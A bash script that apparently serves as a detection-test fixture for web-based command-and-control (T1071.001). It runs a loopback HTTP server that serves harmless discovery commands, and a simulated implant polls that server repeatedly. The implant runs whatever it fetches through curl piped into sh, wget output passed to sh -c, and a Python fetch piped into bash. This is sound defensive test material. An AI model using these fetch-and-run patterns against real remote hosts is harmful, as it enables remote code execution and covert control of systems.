#!/bin/bash
# A web command channel on loopback: a small HTTP "command server" (python's http.server)
# serves a task file of harmless discovery commands, and the implant polls it and runs
# what comes back, three times with curl piped into sh, twice with a shell given the
# body of a wget download, and twice with a Python fetch piped into bash.
# technique: T1071.001
# expect: web-polling-shell
set -eu
export LC_ALL=C
mkdir -p "$TPY_WORK/www"
printf 'id -u\nhostname\n' > "$TPY_WORK/www/tasks"
python3 -m http.server 18431 --bind 127.0.0.1 --directory "$TPY_WORK/www" >/dev/null 2>&1 &
server=$!
for _ in $(seq 50); do
    { exec 3<>/dev/tcp/127.0.0.1/18431; } 2>/dev/null && { exec 3>&-; break; }
    sleep 0.1
done

for round in 1 2 3; do
    curl -s http://127.0.0.1:18431/tasks | sh
    sleep 0.5
done
for round in 1 2; do
    sh -c "$(wget -q -O- http://127.0.0.1:18431/tasks)"
    sleep 0.5
done
for round in 1 2; do
    python3 -c 'import urllib.request; print(urllib.request.urlopen("http://127.0.0.1:18431/tasks").read().decode())' | bash
    sleep 0.5
done
kill "$server"
wait "$server" 2>/dev/null || true
